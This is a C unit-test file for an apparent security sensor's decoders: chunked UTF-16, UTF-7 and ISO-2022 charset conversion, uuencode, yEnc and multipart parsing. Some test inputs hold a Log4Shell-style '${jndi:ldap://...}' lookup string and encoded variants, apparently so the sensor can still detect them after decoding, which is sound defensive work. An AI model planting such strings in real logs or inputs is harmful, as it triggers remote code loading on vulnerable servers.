/* Tests of what only mails need: charsets in pieces, uuencode, yEnc. */
#include "sensor/codec/charset_stream.h"
#include "sensor/codec/multipart.h"
#include "sensor/codec/uuencode.h"
#include "sensor/codec/yenc.h"
#include "tests/unit/runner.h"

/* Converts `in` in pieces of `step` bytes. */
static void convert(const char *charset, struct span in, size_t step, struct sbuf *out)
{
    struct charset_stream c;
    if (charset != NULL) {
        CU_ASSERT(charset_stream_open(&c, span_str(charset)));
    } else {
        charset_stream_sniff(&c);
    }
    for (size_t off = 0; off < in.len; off += step) {
        charset_stream_add(&c, span_sub(in, off, step), out);
    }
    charset_stream_finish(&c, out);
}

/* At every size of pieces the result is `want`. */
static void expect(const char *charset, struct span in, struct span want)
{
    for (size_t step = 1; step <= in.len; step++) {
        struct sbuf out = sbuf_with_cap(1000);
        convert(charset, in, step, &out);
        CU_ASSERT(span_equal(sbuf_span(&out), want));
        sbuf_free(&out);
    }
}

static void utf_16_goes_by_its_mark_or_its_zeros(void)
{
    expect("UTF-16", SPAN("\xff\xfe$\0{\0"), SPAN("${"));
    expect("utf-16", SPAN("\xfe\xff\0$\0{"), SPAN("${"));
    expect("utf-16", SPAN("$\0{\0"), SPAN("${"));
    expect("utf-16", SPAN("\0$\0{"), SPAN("${"));
    expect("utf-16be", SPAN("\0$\0{\xd8"), SPAN("${"));
    expect("utf-16le", SPAN("\x3d\xd8\x00\xde$\0"), SPAN("\xf0\x9f\x98\x80$"));
}

static void what_is_no_utf_16_stays(void)
{
    expect("utf-16", SPAN("${jndi:ldap://203.0.113.9/a} and more"),
           SPAN("${jndi:ldap://203.0.113.9/a} and more"));
    expect("utf-16le", SPAN("${jndi}"), SPAN("${jndi}"));
    expect("utf-16", SPAN("x"), SPAN("x"));
}

static void a_bad_character_is_replaced_and_the_next_one_read(void)
{
    expect("utf-16le", SPAN("$\0\x00\xdc{\0"), SPAN("$\xef\xbf\xbd{"));
    expect("utf-16be", SPAN("\0$\xd8\x01\0{"), SPAN("$\xef\xbf\xbd{"));
    expect("utf-16be", SPAN("\0$\xd8\x01"), SPAN("$"));
}

static void utf_7_sections_are_utf_16_in_base64(void)
{
    expect("utf-7", SPAN("+ACQAew-jndi+AH0-"), SPAN("${jndi}"));
    expect("utf-7", SPAN("+ACQ{+AGo ndi"), SPAN("${j ndi"));
    expect("utf-7", SPAN("1+-1 +$ +2D3eAA-"), SPAN("1+1 +$ \xf0\x9f\x98\x80"));
    expect("utf-7", SPAN("+2D0-x"), SPAN("\xef\xbf\xbdx"));
}

/* RFC 1468, 1557: what is between the escapes of wide characters gets its top bit. */
static void escapes_of_iso_2022_are_taken_out(void)
{
    expect("iso-2022-jp", SPAN("$\x1b(B{\x1b$B$3$s\x1b(Jjn"), SPAN("${\xa4\xb3\xa4\xf3jn"));
    expect("iso-2022-jp-2", SPAN("\x1b$(D${\n${"), SPAN("\xa4\xfb\n${"));
    expect("iso-2022-kr", SPAN("\x1b$)Ca\x0e$\x0f{"), SPAN("a\xa4{"));
    expect("iso-2022-cn", SPAN("\x1bN$\x1b\x07$\x1b!!!!{"), SPAN("$\x1b\x07$\x1b!!!!{"));
}

static void unknown_charsets_count_only_with_a_mark(void)
{
    expect(NULL, SPAN("\xff\xfe$\0{\0"), SPAN("${"));
    expect(NULL, SPAN("$\0{\0"), SPAN("$\0{\0"));
    expect(NULL, SPAN("$"), SPAN("$"));
    struct charset_stream c;
    CU_ASSERT_FALSE(charset_stream_open(&c, SPAN("utf-8")));
    CU_ASSERT_FALSE(charset_stream_open(&c, SPAN("../../x")));
    CU_ASSERT_FALSE(charset_stream_open(&c, SPAN("")));
}

static void behind_a_gap_the_zeros_tell_again(void)
{
    struct sbuf out = sbuf_with_cap(1000);
    struct charset_stream c;
    CU_ASSERT(charset_stream_open(&c, SPAN("utf-16le")));
    charset_stream_add(&c, SPAN("a\0b\0c"), &out);
    charset_stream_gap(&c, &out);
    charset_stream_add(&c, SPAN("\0d\0e"), &out); /* "?\0" "d\0" would be the other reading */
    charset_stream_finish(&c, &out);
    CU_ASSERT(span_equal(sbuf_span(&out), SPAN("abde")));
    sbuf_free(&out);
}

static void behind_a_gap_undecided_zeros_go_by_the_name(void)
{
    static const struct span undecided = SPAN_LITERAL("\0ab\0\0cd\0\0ef\0\0gh\0\0ij\0\0kl\0"
                                                      "\0mn\0\0op\0\0");
    struct sbuf out = sbuf_with_cap(1000);
    struct charset_stream c;
    charset_stream_sniff(&c);
    charset_stream_add(&c, SPAN("\xff\xfe$\0"), &out);
    charset_stream_gap(&c, &out);
    charset_stream_add(&c, undecided, &out);
    charset_stream_finish(&c, &out);
    CU_ASSERT(span_starts(sbuf_span(&out), SPAN("$a")));
    sbuf_free(&out);
}

static void uuencoded_lines_are_told_from_text(void)
{
    struct sbuf out = sbuf_with_cap(100);
    struct span name;
    CU_ASSERT(uuencode_begins(SPAN("begin 644 a b.txt "), &name));
    CU_ASSERT(span_equal(name, SPAN("a b.txt")));
    CU_ASSERT_FALSE(uuencode_begins(SPAN("begin 64 a"), &name));
    CU_ASSERT_FALSE(uuencode_begins(SPAN("begin 648 a"), &name));
    CU_ASSERT_FALSE(uuencode_begins(SPAN("begin 644 "), &name));
    CU_ASSERT(uuencode_line(SPAN("#0V%T"), &out));
    CU_ASSERT(uuencode_line(SPAN("\"2$D"), &out)); /* a blank left out at the end */
    CU_ASSERT(uuencode_line(SPAN("`"), &out));
    CU_ASSERT_FALSE(uuencode_line(SPAN("end"), &out));
    CU_ASSERT_FALSE(uuencode_line(SPAN("#0V%TABC"), &out)); /* longer than it says */
    CU_ASSERT_FALSE(uuencode_line(SPAN("${jndi}"), &out));
    CU_ASSERT_FALSE(uuencode_line(SPAN(""), &out));
    CU_ASSERT(span_equal(sbuf_span(&out), SPAN("CatHI")));
    sbuf_free(&out);
}

static void yenc_undoes_both_shifts(void)
{
    struct sbuf out = sbuf_with_cap(100);
    struct span name;
    CU_ASSERT(yenc_begins(SPAN("=ybegin line=128 size=3 name=x y.bin"), &name));
    CU_ASSERT(span_equal(name, SPAN("x y.bin")));
    CU_ASSERT_FALSE(yenc_begins(SPAN("=ybegin line=128 name=x"), &name));
    CU_ASSERT_FALSE(yenc_begins(SPAN("=ybegin size=1 name="), &name));
    yenc_line(SPAN("=ypart begin=1 end=3"), &out);
    yenc_line(SPAN("N=\x8e\x29="), &out);
    CU_ASSERT(yenc_ends(SPAN("=yend size=3")));
    CU_ASSERT(span_equal(sbuf_span(&out), SPAN("$$\xff")));
    sbuf_free(&out);
}

/* What a multipart body of boundary "b" holds, given in pieces of `step` bytes: "[head|contents]"
 * for each part, "[head|contents" for one that does not end. */
static void list_parts(struct span body, size_t step, struct sbuf *out)
{
    struct multipart m;
    CU_ASSERT_FATAL(multipart_start(&m, SPAN("b")));
    for (size_t off = 0; off < body.len; off += step) {
        struct span in = span_sub(body, off, step);
        struct span piece;
        enum multipart_step got;
        while ((got = multipart_next(&m, &in, &piece)) != MULTIPART_MORE) {
            if (got == MULTIPART_HEAD) {
                sbuf_add_byte(out, '[');
                sbuf_add(out, span_trim(sbuf_span(&m.head)));
                sbuf_add_byte(out, '|');
            } else {
                sbuf_add(out, got == MULTIPART_DATA ? piece : SPAN("]"));
            }
        }
    }
    multipart_free(&m);
}

static void a_multipart_body_is_read_in_pieces(void)
{
    static const struct {
        struct span body;
        struct span want;
    } cases[] = {
        {SPAN_LITERAL("--b\r\nA: 1\r\n\r\none\r\n--b\r\n\r\ntwo\r\n--b--\r\n--b\r\n\r\nx"),
         SPAN_LITERAL("[A: 1|one][|two]")},
        {SPAN_LITERAL("preamble\r\n--b \nA: 1\n\none\n--b--"), SPAN_LITERAL("[A: 1|one]")},
        {SPAN_LITERAL("--b\r\n\r\n\r\r\n-\r\n--\n--a\r\n\r\n--b"),
         SPAN_LITERAL("[|\r\r\n-\r\n--\n--a\r\n]")},
        {SPAN_LITERAL("--b\r\nA: 1\r\n\r\n--b\r\n\r\n\r\n--b--"), SPAN_LITERAL("[A: 1|][|]")},
        {SPAN_LITERAL("--b\r\n\r\n\n-x"), SPAN_LITERAL("[|\n-x")},
        {SPAN_LITERAL("-b\r\n\r\nno part"), SPAN_LITERAL("")},
    };
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        for (size_t step = 1; step <= cases[i].body.len; step++) {
            struct sbuf out = sbuf_with_cap(1000);
            list_parts(cases[i].body, step, &out);
            CU_ASSERT(span_equal(sbuf_span(&out), cases[i].want));
            sbuf_free(&out);
        }
    }
}

static CU_TestInfo charset_tests[] = {
    {"utf_16_goes_by_its_mark_or_its_zeros", utf_16_goes_by_its_mark_or_its_zeros},
    {"what_is_no_utf_16_stays", what_is_no_utf_16_stays},
    {"a_bad_character_is_replaced_and_the_next_one_read",
     a_bad_character_is_replaced_and_the_next_one_read},
    {"utf_7_sections_are_utf_16_in_base64", utf_7_sections_are_utf_16_in_base64},
    {"escapes_of_iso_2022_are_taken_out", escapes_of_iso_2022_are_taken_out},
    {"unknown_charsets_count_only_with_a_mark", unknown_charsets_count_only_with_a_mark},
    {"behind_a_gap_the_zeros_tell_again", behind_a_gap_the_zeros_tell_again},
    {"behind_a_gap_undecided_zeros_go_by_the_name", behind_a_gap_undecided_zeros_go_by_the_name},
    CU_TEST_INFO_NULL,
};

static CU_TestInfo file_tests[] = {
    {"uuencoded_lines_are_told_from_text", uuencoded_lines_are_told_from_text},
    {"yenc_undoes_both_shifts", yenc_undoes_both_shifts},
    {"a_multipart_body_is_read_in_pieces", a_multipart_body_is_read_in_pieces},
    CU_TEST_INFO_NULL,
};

int main(void)
{
    CU_SuiteInfo suites[] = {
        {"charsets in pieces", NULL, NULL, NULL, NULL, charset_tests},
        {"files in text", NULL, NULL, NULL, NULL, file_tests},
        CU_SUITE_INFO_NULL,
    };
    return run_suites(suites);
}
